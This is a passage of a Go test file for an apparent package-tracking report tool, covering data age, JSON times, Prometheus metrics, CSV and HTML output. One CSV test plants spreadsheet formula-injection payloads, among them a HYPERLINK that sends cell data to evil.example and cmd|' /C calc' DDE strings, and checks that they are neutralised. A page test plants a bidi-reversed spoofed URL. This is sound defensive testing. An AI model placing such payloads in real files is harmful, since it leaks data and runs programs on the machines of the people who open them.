// under max-age-days: 30 (from midnight it read 30.25 days, stale, while
// data status said it was not).
func TestDataAgeFromItsTime(t *testing.T) {
	at := time.Date(2026, 11, 1, 20, 0, 0, 0, time.UTC)
	cr := &compat.Report{Sources: []compat.Source{{Name: "helm", Copy: "refreshed /var/lib/updeb/support/compat.yaml", AsOf: "2026-11-01", At: at}}}
	r := Build(Inputs{Now: now, Plan: &plan.Plan{}, Compat: cr, MaxAge: 30 * 24 * time.Hour})
	if d := r.Data[0]; d.Stale || d.AgeSeconds != int64(now.Sub(at)/time.Second) || d.AgeDays != 29 || strings.Contains(r.Verdict.Text, "data older") {
		t.Errorf("data %+v, verdict %s", d, r.Verdict.Text)
	}
	m := string(Metrics(r, Run{OK: true}))
	for _, want := range []string{`updeb_data_table_age_seconds{table="helm",copy="refreshed /var/lib/updeb/support/compat.yaml"} 2541600` + "\n",
		`updeb_data_table_as_of_timestamp_seconds{table="helm",copy="refreshed /var/lib/updeb/support/compat.yaml"} 1793563200` + "\n"} {
		if !strings.Contains(m, want) {
			t.Errorf("metrics lack %q:\n%s", want, m)
		}
	}
	// compat's sources carry the tables' times.
	full, err := compat.Check(nil, nil, compat.Inputs{Now: now})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range full.Sources {
		if s.At.IsZero() || s.At.UTC().Format(time.DateOnly) != s.AsOf {
			t.Errorf("source %s: at %v, as of %s", s.Name, s.At, s.AsOf)
		}
	}
}

// TestJSONTimesWholeSeconds: report.json's times are whole seconds in UTC
// (2026-12-01T06:00:00Z), as jq's fromdate wants them: the clock's
// nanoseconds ("generated": "...06:00:00.123456789Z") made `jq '.generated |
// fromdate'` fail, and the compat report's "now" too.
func TestJSONTimesWholeSeconds(t *testing.T) {
	at := now.Add(123456789 * time.Nanosecond).In(time.FixedZone("UTC+2", 2*3600))
	cr, err := compat.Check(nil, nil, compat.Inputs{Now: at})
	if err != nil {
		t.Fatal(err)
	}
	r := Build(Inputs{Now: at, Plan: &plan.Plan{}, Compat: cr})
	var b bytes.Buffer
	if err := WriteJSON(&b, r); err != nil {
		t.Fatal(err)
	}
	var v struct {
		Generated string `json:"generated"`
		Compat    struct {
			Now string `json:"now"`
		} `json:"compat"`
	}
	if err := json.Unmarshal(b.Bytes(), &v); err != nil {
		t.Fatal(err)
	}
	if v.Generated != "2026-12-01T06:00:00Z" || v.Compat.Now != "2026-12-01T06:00:00Z" {
		t.Errorf("generated %q, compat.now %q: want 2026-12-01T06:00:00Z", v.Generated, v.Compat.Now)
	}
}

// TestMetricsTwoInstances: two tracking instances (two suites, two recipe
// repositories) writing their files into one textfile folder give no series
// twice: node_exporter keeps one of two equal series and drops the other
// ("was collected before with the same name and label values"), so one
// instance's failed run read as the other's success. Every sample carries
// the instance's name, and the last success is read back from it.
func TestMetricsTwoInstances(t *testing.T) {
	promtool := testenv.RequireTool(t, "promtool")[0]
	r := fixtureReport(t, true)
	series := map[string]string{}
	for _, name := range []string{"updeb-k8s", "updeb-edge"} {
		m := Metrics(r, Run{OK: name == "updeb-k8s", LastSuccess: now.Add(-time.Hour), Tracking: name})
		cmd := exec.Command(promtool, "check", "metrics")
		cmd.Stdin = bytes.NewReader(m)
		if out, err := cmd.CombinedOutput(); err != nil || len(bytes.TrimSpace(out)) > 0 {
			t.Errorf("%s: promtool check metrics: %v\n%s\n%s", name, err, out, m)
		}
		for _, line := range strings.Split(string(m), "\n") {
			if line == "" || strings.HasPrefix(line, "#") {
				continue
			}
			s := line[:strings.LastIndexByte(line, ' ')]
			if other, ok := series[s]; ok {
				t.Errorf("%s and %s both give %s", other, name, s)
			}
			series[s] = name
		}
		if got, want := PreviousSuccess(m), map[bool]time.Time{true: now, false: now.Add(-time.Hour)}[name == "updeb-k8s"]; !got.Equal(want) {
			t.Errorf("%s: previous success %v, want %v", name, got, want)
		}
	}
	if series[`updeb_tracking_last_run_success{tracking="updeb-edge"}`] != "updeb-edge" || series[`updeb_plan_actions{tracking="updeb-k8s",kind="bump"}`] != "updeb-k8s" {
		t.Errorf("series %v", series)
	}
}

// A cell a spreadsheet would read as a formula (=, +, -, @, a tab or a CR
// first: a server's message, a release set's name, a finding) is written
// as text, an apostrophe first, in every CSV file: opened in a spreadsheet,
// a hostile one would run (=HYPERLINK leaks the sheet, =cmd|... runs a
// program). Python's csv module reads the files; a number ("-3600", an
// expired Release) stays a number.
func TestWriteCSVNoFormulas(t *testing.T) {
	python := testenv.RequireTool(t, "python3")[0]
	r := fixtureReport(t, true)
	r.Recipes[0].Unknown = `=HYPERLINK("https://evil.example/?"&A1,"click")`
	r.Recipes[0].Support = "+cmd|' /C calc'!A0"
	r.Data[0].Copy = "@SUM(1+1)*cmd|' /C calc'!A0"
	r.Compat.Sets[0].Name = "-2+3+cmd|' /C calc'!A0"
	r.Plan.Actions[0].Reason = "\t=1+1"
	r.Repository.Pending[0].Staging = "\r=1+1"
	r.Repository.Suites[0].ExpiresIn = -3600
	dir := t.TempDir()
	if err := Write(context.Background(), dir, r); err != nil {
		t.Fatal(err)
	}
	script := `
import csv, json, re, sys
bad = 0
for name in sys.argv[1:]:
    with open(name, newline='', encoding='utf-8') as f:
        for row in csv.reader(f):
            for cell in row:
                if cell[:1] in ('=', '+', '-', '@', '\t', '\r') and not re.fullmatch(r'[+-]?[0-9]+(\.[0-9]+)?', cell):
                    print(name, json.dumps(cell)); bad += 1
                if cell.startswith("'"):
                    print("text", json.dumps(cell))
sys.exit(1 if bad else 0)
`
	var args []string
	for _, name := range Files {
		if strings.HasSuffix(name, ".csv") {
			args = append(args, filepath.Join(dir, name))
		}
	}
	out, err := exec.Command(python, append([]string{"-c", script}, args...)...).CombinedOutput()
	if err != nil {
		t.Errorf("a cell a spreadsheet reads as a formula: %v\n%s", err, out)
	}
	// Nothing is lost: the text follows the apostrophe.
	for _, text := range []string{r.Recipes[0].Unknown, r.Recipes[0].Support, r.Data[0].Copy, r.Compat.Sets[0].Name, r.Plan.Actions[0].Reason, r.Repository.Pending[0].Staging} {
		want := strconv.Quote("'" + text) // as Python's json.dumps writes ASCII
		if !strings.Contains(string(out), "text "+want+"\n") {
			t.Errorf("no %s in the CSV files:\n%s", want, out)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "suites.csv")); !bytes.Contains(b, []byte(",-3600,")) {
		t.Errorf("suites.csv: a negative number is no longer a number:\n%s", b)
	}
}

// What is unknown is an empty cell in the CSV files, not a 0 a script or a
// spreadsheet reads as a fact: a data table without an as-of date is not 0
// days old (the page says "unknown", the metrics leave it out), and a
// Release without a Valid-Until does not expire in 0 seconds (a filter
// "expires_in_seconds <= 0" would list it as expired). Python's csv module
// reads the files.
func TestCSVUnknownIsEmpty(t *testing.T) {
	python := testenv.RequireTool(t, "python3")[0]
	r := fixtureReport(t, true)
	r.Data = append(r.Data, DataTable{Name: "undated", Copy: "repository compat-data.yaml"})
	dir := t.TempDir()
	if err := Write(context.Background(), dir, r); err != nil {
		t.Fatal(err)
	}
	script := `
import csv, json, sys
d = sys.argv[1]
print(json.dumps({
  "data": {row["table"]: row["age_days"] for row in csv.DictReader(open(d + "/data.csv", newline="", encoding="utf-8"))},
  "suites": {row["suite"]: [row["valid_until"], row["expires_in_seconds"]] for row in csv.DictReader(open(d + "/suites.csv", newline="", encoding="utf-8"))},
}, sort_keys=True))
`
	out, err := exec.Command(python, "-c", script, dir).CombinedOutput()
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	var got struct {
		Data   map[string]string
		Suites map[string][2]string
	}
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if age, ok := got.Data["undated"]; !ok || age != "" {
		t.Errorf("data.csv: the undated table's age_days is %q, want empty: %s", age, out)
	}
	if age := got.Data["endoflife"]; age != "42" {
		t.Errorf("data.csv: endoflife's age_days is %q, want 42: %s", age, out)
	}
	if s := got.Suites["staging"]; s != [2]string{"", ""} {
		t.Errorf("suites.csv: staging (no Valid-Until) is %q, want empty cells: %s", s, out)
	}
	if s := got.Suites["production"]; s[1] != "72000" {
		t.Errorf("suites.csv: production expires in %q, want 72000: %s", s[1], out)
	}
}

// A recipe whose upstream could not be listed (offline and not in the
// support data, an API failure, no watch) has no updeb_recipe_behind_upstream
// sample: a 0 would say it is at the newest release, which nobody checked,
// and a dashboard of the gauge would show it up to date. A checked recipe
// has its 1 or 0; promtool takes the file.
func TestMetricsUnknownRecipeLeftOut(t *testing.T) {
	r := fixtureReport(t, true)
	m := Metrics(r, Run{OK: true})
	promtoolCheck(t, m)
	for _, x := range r.Recipes {
		series := []byte(`updeb_recipe_behind_upstream{recipe="` + x.Name + `"} `)
		if has := bytes.Contains(m, series); has != (x.Unknown == "") {
			t.Errorf("%s (upstream unknown: %q): sample given: %v\n%s", x.Name, x.Unknown, has, m)
		}
	}
	for _, want := range []string{`updeb_recipe_behind_upstream{recipe="kubernetes-1.35"} 0` + "\n", `updeb_recipe_behind_upstream{recipe="kubernetes-1.36"} 1` + "\n", "updeb_recipes_upstream_unknown 9\n"} {
		if !bytes.Contains(m, []byte(want)) {
			t.Errorf("metrics lack %s:\n%s", want, m)
		}
	}
}

// promtoolCheck fails t unless promtool check metrics takes m without a
// word.
func promtoolCheck(t *testing.T, m []byte) {
	t.Helper()
	cmd := exec.Command(testenv.RequireTool(t, "promtool")[0], "check", "metrics")
	cmd.Stdin = bytes.NewReader(m)
	if out, err := cmd.CombinedOutput(); err != nil || len(bytes.TrimSpace(out)) > 0 {
		t.Errorf("promtool check metrics: %v\n%s\n%s", err, out, m)
	}
}

// A bidi override or zero-width character in what the page shows (a
// server's message, a data file's header) is an escape there, as on a
// terminal: in Chromium's page it would make the cell read otherwise than
// its bytes (U+202E shows "https://evil.org" backwards as a trusted name).
func TestPageNoBidiOverride(t *testing.T) {
	r := fixtureReport(t, true)
	r.Recipes[0].Unknown = "GitHub API: HTTP 403: see \u202egro.live//:sptth\u202c\u200b"
	r.Compat.Sources[0].Text = "Source: https://endoflife.date \u2066\u202egro.live\u2069"
	dir := t.TempDir()
	if err := Write(context.Background(), dir, r); err != nil {
		t.Fatal(err)
	}
	dom := string(testenv.Chromium(t, filepath.Join(dir, "index.html"), "--dump-dom"))
	if i := strings.IndexAny(dom, "\u202e\u202c\u200b\u2066\u2069"); i >= 0 {
		t.Errorf("the page holds a bidi override or zero-width character: %q", dom[max(0, i-80):min(len(dom), i+80)])
	}
	if want := `unknown: GitHub API: HTTP 403: see \u202egro.live//:sptth\u202c\u200b`; !strings.Contains(dom, want) {
		t.Errorf("the page lacks %s", want)
	}
}

// noSetsReport is the report of the tracking fixture's recipes without a
// release set file (report skips release-sets.yaml when it is absent).
func noSetsReport(t *testing.T) *Report {
	t.Helper()
	rs := trackingfixture.Recipes(t)
	data, err := supportdata.New("Source: test\nAs of: 2026-10-20", map[string][]supportdata.Cycle{})
	if err != nil {
		t.Fatal(err)
	}
	copyOf := &supportdata.Copy{Data: data}
	p, err := plan.Make(t.Context(), rs, copyOf, plan.Options{Now: now})
	if err != nil {
		t.Fatal(err)
	}
	cr, err := compat.Check(nil, rs, compat.Inputs{Now: now, EOL: data})
	if err != nil {
		t.Fatal(err)
	}
	return Build(Inputs{Now: now, Plan: p, Compat: cr})
}

// A run without a release set file (release-sets.yaml absent, from a cron
// job started in the wrong folder) checked no release set: the verdict does
// not say that every release set passes, the page says none was checked,
// and the metrics leave the release sets' counts without a sample (not
// collected), where a 0 would tell an alert on violations that all is well.
func TestNoReleaseSetFile(t *testing.T) {
	r := noSetsReport(t)
	checked := *r
	checked.Recipes = nil // every recipe checked and current: the verdict is OK
	if v := verdict(&checked, 0, false); v.Level != LevelOK || strings.Contains(v.Text, "every release set passes") || !strings.Contains(v.Text, "no release set file") {
		t.Errorf("verdict: %s", v.Text)
	}
	m := Metrics(r, Run{OK: true})
	promtoolCheck(t, m)
	for _, name := range []string{"updeb_release_sets_violating", "updeb_components_end_of_life"} {
		if !bytes.Contains(m, []byte("# TYPE "+name+" gauge\n")) || regexp.MustCompile(`(?m)^`+name+`[{ ]`).Match(m) {
			t.Errorf("%s: want the family with no sample:\n%s", name, m)
		}
	}
	dir := t.TempDir()
	if err := Write(context.Background(), dir, r); err != nil {
		t.Fatal(err)
	}
	dom := string(testenv.Chromium(t, filepath.Join(dir, "index.html"), "--dump-dom"))
	if !strings.Contains(dom, "No release set file: no release set was checked") {
		t.Errorf("the page does not say no release set was checked:\n%.3000s", dom)
	}
}
